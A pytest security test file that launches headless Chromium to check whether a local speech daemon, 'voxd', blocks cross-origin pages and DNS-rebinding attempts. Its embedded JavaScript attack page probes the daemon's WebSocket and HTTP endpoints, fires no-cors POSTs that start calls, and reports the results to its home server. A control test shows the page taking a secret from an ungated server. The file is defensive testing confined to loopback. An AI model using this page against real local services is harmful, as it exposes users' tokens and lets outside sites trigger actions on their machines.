"""A page of another site, or one that rebound its name, gets nothing of voxd's TCP listener in a real browser.  Each
attack is also tried on a server without a gate, where it must succeed, else the test would prove nothing.
`evil.example` is this machine by the browser's own resolver rules; nothing leaves loopback."""

from __future__ import annotations

import asyncio
import json
import os
import shutil
import tempfile
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from queue import Queue
from urllib.parse import urlencode

import pytest

from benchmarks.ws_echo import SECRET, echo_process
from tests.support.daemon import Daemon, voxd_process
from tests.support.peers import Relay

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed"),
]
FLAGS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage"),
    *("--host-resolver-rules=MAP evil.example 127.0.0.1", "--remote-debugging-port=0"),
)
EVIL, LOCAL = "evil.example", "127.0.0.1"

PAGE = """<!doctype html><script>
const given = new URLSearchParams(location.search), token = given.get("token");
const target = given.get("target") || location.host, home = given.get("home");
const socket = () => new Promise(done => {
  const names = token ? ["realtime", "openai-insecure-api-key." + token] : [];
  const link = new WebSocket(`ws://${target}/v1/realtime`, names);
  link.onopen = () => done("open");
  link.onerror = () => done("refused");
});
const read = headers => fetch(`http://${target}/status`, {headers}).then(
  async answer => `${answer.status} ${await answer.text()}`, () => "refused");
// As a page may send to anybody, asking nobody: what comes back is hidden from it, what it sets off is not.
const post = (path, form) => fetch(`http://${target}${path}`, {method: "POST", mode: "no-cors", body: form}).then(
  () => "sent", () => "refused");
const call = async () => {
  const peer = new RTCPeerConnection(), form = new FormData();
  peer.createDataChannel("oai-events");
  peer.addTransceiver("audio");
  await peer.setLocalDescription();
  form.append("sdp", peer.localDescription.sdp);
  return post("/v1/realtime/calls", form);
};
const tell = (what, body) => fetch(`${home}/${what}`, {method: "POST", mode: "no-cors", body});
(async () => {
  await tell("loaded", "");
  const got = {socket: await socket(), page: await read({})};
  got.posted = `${await call()}, ${await post("/v1/realtime/client_secrets", "{}")}`;
  if (token) got.signed = await read({Authorization: "Bearer " + token});
  await tell("report", JSON.stringify(got));
})();
</script>"""


class Site:
    """The server that the page comes from and reports to.  `on_load` runs before the page attacks."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.reports = Queue[dict[str, str]]()
        self.on_load: Callable[[], None] = lambda: None

    def url(self, host: str, port: int, **given: str) -> str:
        return f"http://{host}:{port}/?" + urlencode({"home": f"http://{LOCAL}:{self.port}", **given})


@pytest.fixture
def site() -> Iterator[Site]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.answer("text/html", PAGE.encode())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            if self.path == "/report":
                here.reports.put(json.loads(body))
            else:
                here.on_load()
            self.answer("text/plain", b"")

        def answer(self, kind: str, body: bytes) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            """Keeps requests out of the test's output."""

    with ThreadingHTTPServer((LOCAL, 0), Handler) as server:
        here = Site(server.server_address[1])
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield here
        server.shutdown()
        thread.join()


async def visited(site: Site, url: str) -> dict[str, str]:
    """What the page at `url` got, by its own report."""
    assert CHROMIUM is not None
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        quiet = asyncio.subprocess.DEVNULL
        browser = await asyncio.create_subprocess_exec(
            CHROMIUM, *FLAGS, f"--user-data-dir={profile}", url, stdout=quiet, stderr=quiet,
            env={**os.environ, "TMPDIR": profile},  # where it forgets a socket
        )  # fmt: skip
        try:
            return await asyncio.to_thread(site.reports.get, timeout=300)
        finally:
            browser.terminate()
            await browser.wait()


async def across(site: Site, host: str, target: str, token: str = "") -> dict[str, str]:
    """Has a page of `host` reach for `target`, an address of this machine."""
    return await visited(site, site.url(host, site.port, target=target, **({"token": token} if token else {})))


async def rebound(site: Site, target: str, token: str = "") -> dict[str, str]:
    """Has a page reach for the name and port that it came from, where `target` listens by now."""
    loop = asyncio.get_running_loop()
    async with Relay(f"{LOCAL}:{site.port}").running() as relay:

        def rebind() -> None:
            loop.call_soon_threadsafe(relay.lead_to, target)

        site.on_load = rebind
        port = int(relay.address.rpartition(":")[2])
        return await visited(site, site.url(EVIL, port, **({"token": token} if token else {})))


@contextmanager
def voxd() -> Iterator[tuple[str, str]]:
    """A daemon's address and its token."""
    with voxd_process("--transcribe", "echo", "--listen", f"{LOCAL}:0") as daemon:
        listening = daemon.status()["listen"]
        assert isinstance(listening, list)
        (file,) = daemon.folder.rglob("token")
        yield listening[0], file.read_text().strip()


def nothing(got: dict[str, str]) -> bool:
    return got["socket"] == "refused" and not any(answer.startswith("200") for answer in got.values())


@contextmanager
def voxd_for_all() -> Iterator[tuple[Daemon, str]]:
    """A daemon that takes calls and any key, so that it keeps others out by name and origin alone."""
    engines = ("--transcribe", "echo", "--listen", f"{LOCAL}:0", "--no-token")
    with voxd_process(*engines, env={"VOXD_WEBRTC_ENABLED": "true"}) as daemon:
        listening = daemon.status()["listen"]
        assert isinstance(listening, list)
        yield daemon, listening[0]


async def test_a_page_of_another_site_gets_nothing_even_with_the_token(site: Site) -> None:
    with voxd() as (address, token):
        assert nothing(await across(site, EVIL, address))
        assert nothing(await across(site, EVIL, address, token))


async def test_a_page_that_rebound_its_name_gets_nothing_even_with_the_token(site: Site) -> None:
    with voxd() as (address, token):
        for known in ("", token):
            got = await rebound(site, address, known)
            assert nothing(got)
            assert got["page"].startswith("421"), "it did reach voxd, as its own origin"


async def test_a_page_of_this_machine_needs_the_token(site: Site) -> None:
    """With the token the page comes in, so the refusals elsewhere have the reason that is tested."""
    with voxd() as (address, token):
        assert nothing(await across(site, LOCAL, address))
        assert (await across(site, LOCAL, address, token))["socket"] == "open"


async def test_a_post_that_asks_nobody_sets_nothing_off_elsewhere(site: Site) -> None:
    """The same page on this machine does begin a call with this request, so the request is a good one."""
    with voxd_for_all() as (daemon, address):
        assert nothing(await across(site, EVIL, address))
        assert nothing(await rebound(site, address))
        assert daemon.status()["calls"] == 0
        assert (await across(site, LOCAL, address))["posted"] == "sent, sent"
        assert daemon.status()["calls"] == 1


async def test_a_server_without_a_gate_is_taken_by_the_same_pages(site: Site) -> None:
    with echo_process() as address:
        for got in (await across(site, EVIL, address), await rebound(site, address)):
            assert (got["socket"], got["page"]) == ("open", f"200 {SECRET}")
